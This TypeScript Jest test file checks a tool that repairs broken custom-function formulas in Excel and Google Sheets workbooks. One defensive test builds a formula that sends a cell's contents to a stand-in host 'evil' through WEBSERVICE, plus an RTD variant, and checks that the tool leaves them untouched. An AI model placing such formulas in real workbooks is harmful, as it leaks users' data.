import type { CellWrite } from '../../src/workbook/port';
import { repairWorkbook } from '../../src/workbook/repair/repair-workbook';
import type { Progress } from '../../src/workbook/scan';
import { brokenForms, otherFormulas } from './broken-forms';
import { MemoryWorkbook } from './memory-workbook';

const fill = async (
  workbook: MemoryWorkbook,
  sheet: string,
  rows: readonly (readonly (string | number)[])[],
): Promise<void> => {
  const cells = rows.map((row) =>
    row.map((cell): CellWrite => (String(cell).startsWith('=') ? { formula: String(cell) } : { value: cell })),
  );
  await workbook.write({ sheet, row: 0, column: 0, rows: rows.length, columns: rows[0]!.length }, cells);
};

const formulasOf = async (workbook: MemoryWorkbook): Promise<(string | null)[]> => {
  const used = (await workbook.usedRanges()).flatMap((sheet) => (sheet.used === null ? [] : [sheet.used]));
  return (await workbook.readRanges(used)).flat(2).map(({ formula }) => formula);
};

/**
 * The workbook shows `#NAME?`, or the word for it in another language's Excel, wherever this says so, until the formula is
 * entered again; in memory nothing is worked out. What is unknown stays so.
 */
const showNames = (
  workbook: MemoryWorkbook,
  where: (formula: string) => boolean,
  unknown: (formula: string) => boolean = () => false,
  word = '#NAME?',
): void => {
  const entered = new Set<string>();
  const write = workbook.writeRanges.bind(workbook);
  workbook.writeRanges = async (writes) => {
    await write(writes);
    for (const { cells } of writes) for (const cell of cells.flat()) if ('formula' in cell) entered.add(cell.formula);
  };
  const shows = (formula: string | null): boolean =>
    formula !== null && (unknown(formula) || (where(formula) && !entered.has(formula)));
  const read = workbook.readRanges.bind(workbook);
  workbook.readRanges = async (ranges) =>
    (await read(ranges)).map((rows) =>
      rows.map((cells) => cells.map((cell) => (shows(cell.formula) ? { ...cell, value: word, text: word } : cell))),
    );
};

const frozen = (formula: string): string => `=IFERROR(__xludf.DUMMYFUNCTION("${formula.replaceAll('"', '""')}"), 97)`;
const spill = frozen('"COMPUTED_VALUE"');

let workbook: MemoryWorkbook;
beforeEach(() => {
  workbook = new MemoryWorkbook();
});

describe('a workbook of 10,000 formulas, 3,000 of them ours in every broken form', () => {
  const others = otherFormulas.filter((formula) => /^=./.test(formula));
  const formulaAt = (index: number): readonly [written: string, expected: string] => {
    if (index % 10 < 3) {
      const turn = Math.floor(index / 10) * 3 + (index % 10);
      if (turn % 5 === 4) return ['=ICS_BUDGET("LSC")', '=ICS_BUDGET("LSC")'];
      const [, broken, repaired] = brokenForms[turn % brokenForms.length]!;
      return [broken, repaired];
    }
    const other = index % 4 === 0 ? others[index % others.length]! : `=SUM(A${index},1)`;
    return [other, other];
  };
  const cases = Array.from({ length: 10_000 }, (_, index) => formulaAt(index));
  const onSheets = async (): Promise<void> => {
    // 5,000 on the first sheet in 50 columns, 5,000 in one column of the second.
    await fill(
      workbook,
      'Sheet1',
      Array.from({ length: 100 }, (_, row) => cases.slice(row * 50, row * 50 + 50).map(([written]) => written)),
    );
    await workbook.ensureSheet('Second', ['Heading']);
    await workbook.write(
      { sheet: 'Second', row: 0, column: 0, rows: 5_000, columns: 1 },
      cases.slice(5_000).map(([written]) => [{ formula: written }]),
    );
    showNames(workbook, (formula) => /^=ICS_BUDGET|^=ICSDEV\.|^=ICS\.|^=_xldudf/.test(formula));
  };

  it('has all of ours repaired and none other changed, in few round trips', async () => {
    await onSheets();
    const [reads, writes] = [jest.spyOn(workbook, 'readRanges'), jest.spyOn(workbook, 'writeRanges')];
    const before = await formulasOf(workbook);
    reads.mockClear();
    const steps: Progress[] = [];
    const report = await repairWorkbook(workbook, (step) => steps.push(step));
    // All is read once, and what was written once more after each of two writes.
    expect([reads.mock.calls.length, writes.mock.calls.length]).toEqual([3, 2]);
    expect(report).toMatchObject({ outcome: 'finished', formulas: 10_000, repaired: 3_000, emptied: 0, refused: [] });
    expect(report.faults['shows #NAME?']).toBe(600);
    const after = await formulasOf(workbook);
    expect(after).toEqual(cases.map(([, expected]) => expected));
    expect(after.filter((formula, index) => formula !== before[index])).toHaveLength(2_400);
    expect(steps.at(-1)).toEqual({ phase: 'writing', done: 3_000, total: 3_000 });
    const written = writes.mock.calls.flatMap(([ranges]) => ranges).flatMap(({ cells }) => cells.flat());
    expect(written).toHaveLength(3_000);
  });

  it('has nothing left to repair after that', async () => {
    await onSheets();
    await repairWorkbook(workbook);
    const again = await repairWorkbook(Object.assign(workbook, { readRanges: MemoryWorkbook.prototype.readRanges }));
    expect(again).toMatchObject({ outcome: 'finished', repaired: 0 });
  });
});

describe('a repair', () => {
  it('of nothing is a report of nothing', async () => {
    expect(await repairWorkbook(workbook)).toEqual({
      outcome: 'finished',
      formulas: 0,
      ours: 0,
      repaired: 0,
      faults: { 'stored by Excel': 0, 'stored by Google Sheets': 0, 'with a namespace': 0, 'shows #NAME?': 0 },
      emptied: 0,
      left: [],
      stuck: [],
      refused: [],
      steps: 0,
    });
  });

  it('reads a large workbook in bands and can be stopped between them, with nothing written', async () => {
    await fill(
      workbook,
      'Sheet1',
      Array.from({ length: 1_500 }, () => Array(40).fill('=_xldudf_ICS_DEFICIT("LSC")')),
    );
    const stop = new AbortController();
    const steps: Progress[] = [];
    const writes = jest.spyOn(workbook, 'writeRanges');
    const report = await repairWorkbook(
      workbook,
      (step) => {
        steps.push(step);
        stop.abort();
      },
      stop.signal,
    );
    expect(steps).toEqual([{ phase: 'reading', done: 20_000, total: 60_000 }]);
    expect([report.outcome, writes.mock.calls.length]).toEqual(['stopped', 0]);
  });

  it('that is stopped while it writes says how far it came, and each formula is the old one or the new one', async () => {
    await fill(
      workbook,
      'Sheet1',
      Array.from({ length: 1_500 }, () => Array(8).fill('=_xldudf_ICS_DEFICIT("LSC")')),
    );
    const stop = new AbortController();
    const report = await repairWorkbook(workbook, ({ phase }) => phase === 'writing' && stop.abort(), stop.signal);
    expect(report).toMatchObject({ outcome: 'stopped', ours: 12_000, repaired: 5_000 });
    const after = await formulasOf(workbook);
    expect(after.filter((formula) => formula === '=ICS_DEFICIT("LSC")')).toHaveLength(5_000);
    expect(after.filter((formula) => formula === '=_xldudf_ICS_DEFICIT("LSC")')).toHaveLength(7_000);
  });

  it('repairs the other sheets where one is protected, and says so', async () => {
    await fill(workbook, 'Sheet1', [['=_xldudf_ICS_NAME("LSC")', '=_xldudf_ICS_CODE("LSC")']]);
    await workbook.ensureSheet('Second', ['x']);
    await workbook.write({ sheet: 'Second', row: 0, column: 0, rows: 1, columns: 1 }, [
      [{ formula: '=_xldudf_ICS_NAME("LSC")' }],
    ]);
    workbook.protectedSheets.add('Sheet1');
    const report = await repairWorkbook(workbook);
    expect(report.refused).toEqual([
      { sheet: 'Sheet1', formulas: 2, sentence: 'The test workbook’s sheet is protected.' },
    ]);
    expect(report.repaired).toBe(1);
    expect(await formulasOf(workbook)).toEqual([
      '=_xldudf_ICS_NAME("LSC")',
      '=_xldudf_ICS_CODE("LSC")',
      '=ICS_NAME("LSC")',
    ]);
  });

  it('hands on the sentence of a workbook that cannot be read', async () => {
    workbook.refusal = 'The workbook is busy.';
    await expect(repairWorkbook(workbook)).rejects.toThrow('The workbook is busy.');
  });

  // French, Spanish, Polish, Russian Excel.
  it.each(['#NOM?', '#¿NOMBRE?', '#NAZWA?', '#ИМЯ?'])('knows %s for #NAME?', async (word) => {
    await fill(workbook, 'Sheet1', [['=ICS_DEFICIT("LSC")', '=ICS_NAME("LSC")']]);
    showNames(workbook, (formula) => formula.includes('DEFICIT'), undefined, word);
    expect(await repairWorkbook(workbook)).toMatchObject({ ours: 2, repaired: 1, stuck: [], left: [] });
  });

  it.each(['#N/A', '#VALUE!', '#WERT!', '#DIV/0!', 'What?', '# ?'])('takes %s for no #NAME?', async (word) => {
    await fill(workbook, 'Sheet1', [['=ICS_DEFICIT("LSC")']]);
    showNames(workbook, () => true, undefined, word);
    expect(await repairWorkbook(workbook)).toMatchObject({ ours: 1, repaired: 0, stuck: [], left: [] });
  });

  it('does not count as repaired what shows #NAME? again, and names it', async () => {
    await fill(workbook, 'Sheet1', [
      ['=ICS_DEFICIT("LSC")+Nope', '=_xldudf_ICS_DEFICIT("LSC")*Nope', '=ICS_NAME("LSC")', '=_xldudf_ICS_CODE("LSC")'],
    ]);
    showNames(
      workbook,
      () => true,
      (formula) => formula.includes('Nope'),
    );
    const report = await repairWorkbook(workbook);
    expect(report).toMatchObject({ ours: 4, repaired: 2, left: [], steps: 1 });
    expect(report.faults).toMatchObject({ 'shows #NAME?': 1, 'stored by Excel': 1 });
    expect(report.stuck.map(({ cell, formula }) => [cell.column, formula])).toEqual([
      [0, '=ICS_DEFICIT("LSC")+Nope'],
      [1, '=ICS_DEFICIT("LSC")*Nope'],
    ]);
    expect(report.stuck[0]!.sentence).toMatch(/still shows #NAME\?/);
  });

  it('leaves what would reach out of the workbook once it is live, and names that', async () => {
    const evil = frozen('ICS_DEFICIT(1)&WEBSERVICE("https://evil/?"&A1)');
    const half = `=_xldudf_ICS_NAME("LSC")&IFERROR(__xludf.DUMMYFUNCTION("ICS_NAME(1)&RTD(""x"",,A1)"),"")`;
    await fill(workbook, 'Sheet1', [[evil, half]]);
    const report = await repairWorkbook(workbook);
    expect(report).toMatchObject({ ours: 2, repaired: 0, steps: 0 });
    expect(report.left.map(({ sentence }) => /use (\w+)/.exec(sentence)?.[1])).toEqual(['WEBSERVICE', 'RTD']);
    expect(await formulasOf(workbook)).toEqual([evil, half]);
  });

  it('leaves the names of a copy that is loaded beside ours', async () => {
    await fill(workbook, 'Sheet1', [['=ICSDEV.ICS_NAME("LSC")']]);
    expect(await repairWorkbook(workbook)).toMatchObject({ ours: 1, repaired: 0 });
    showNames(workbook, () => true);
    expect((await repairWorkbook(workbook)).faults['with a namespace']).toBe(1);
    expect(await formulasOf(workbook)).toEqual(['=ICS_NAME("LSC")']);
  });
});

describe('what Google Sheets froze around a table', () => {
  it('is emptied so that the table can spill again', async () => {
    await fill(workbook, 'Sheet1', [
      ['mine', frozen('ICS_TABLE("LSC")'), spill, spill],
      ['mine', spill, spill, spill],
      ['mine', 'mine', 'mine', 'mine'],
    ]);
    expect(await repairWorkbook(workbook)).toMatchObject({ repaired: 1, emptied: 5, left: [] });
    const [rows] = await workbook.readRanges([{ sheet: 'Sheet1', row: 0, column: 0, rows: 3, columns: 4 }]);
    expect(rows!.map((row) => row.map(({ formula, value }) => formula ?? value))).toEqual([
      ['mine', '=ICS_TABLE("LSC")', null, null],
      ['mine', null, null, null],
      ['mine', 'mine', 'mine', 'mine'],
    ]);
  });

  it('is left with its formula where another frozen formula may have spilled there', async () => {
    const query = frozen('QUERY(A1:A9,"select A")');
    await fill(workbook, 'Sheet1', [
      ['x', frozen('ICS_NAME(A1:A3)')],
      [query, spill],
      [spill, spill],
    ]);
    const before = await formulasOf(workbook);
    const report = await repairWorkbook(workbook);
    expect(report).toMatchObject({ repaired: 0, emptied: 0 });
    expect(report.left.map(({ cell, formula }) => [cell.row, cell.column, formula])).toEqual([
      [0, 1, frozen('ICS_NAME(A1:A3)')],
    ]);
    expect(await formulasOf(workbook)).toEqual(before);
  });

  it('does not hold up a single figure beside it', async () => {
    await fill(workbook, 'Sheet1', [[frozen('ICS_DEFICIT("LSC")')], [frozen('QUERY(A1:A9,"select A")')], [spill]]);
    expect(await repairWorkbook(workbook)).toMatchObject({ repaired: 1, emptied: 0, left: [] });
    expect(await formulasOf(workbook)).toEqual(['=ICS_DEFICIT("LSC")', frozen('QUERY(A1:A9,"select A")'), spill]);
  });

  it('stays, and is reported, where it needs what only Google Sheets has', async () => {
    await fill(workbook, 'Sheet1', [[frozen('ARRAYFORMULA(ICS_NAME(A1:A3))')]]);
    const report = await repairWorkbook(workbook);
    expect(report.left.map(({ sentence }) => sentence)).toEqual([expect.stringMatching(/only Google Sheets has/)]);
    expect([report.ours, report.repaired]).toEqual([1, 0]);
  });
});
